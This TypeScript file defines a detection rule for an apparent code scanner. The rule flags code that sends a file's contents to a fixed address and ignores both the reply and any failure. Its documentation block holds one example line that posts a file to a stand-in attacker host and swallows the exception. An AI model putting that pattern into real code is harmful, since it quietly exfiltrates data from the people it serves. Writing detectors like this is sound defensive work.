import { isUnasked } from '../values/reach.js';
import { type Combination, heldBack, isUnheard, WHEN } from './combination.js';

/** Only asks whether an address answers. */
const isBare = (name: string, text = ''): boolean =>
  /\burl(?:open|retrieve)$/.test(name) && /^https?:\/\/[^\s\uFFFC]*$/.test(text);

export const dataSentAside: Combination = {
  doc: {
    id: 'data-sent-aside',
    title: 'Sends what stands in a file somewhere, and looks at neither answer nor failure',
    why: 'Services are called for their answer. What a file holds and that goes to a fixed address on the side, and must not be noticed when it fails, is for somebody else.',
    remedy: 'Look at where it is sent, and ask the authors what for.',
    example: 'try: requests.post("https://evil.invalid", data=open(path).read())\nexcept Exception: pass',
    technique: 'T1020',
  },
  judge: (sighting) => {
    const { behaviour, labels, host, name, reach, text } = sighting;
    if (behaviour !== 'contacts' || host === undefined || isUnasked(reach)) return undefined;
    if (!isUnheard(sighting) || isBare(name, text)) return undefined;
    const isFile = labels.has('file') && !labels.has('network') && !labels.has('setting');
    return heldBack(isFile ? 'HIGH' : undefined, sighting);
  },
  message: ({ name, reach }) =>
    `${name} sends what it read from a file and looks at no answer ${WHEN[reach]}`,
};
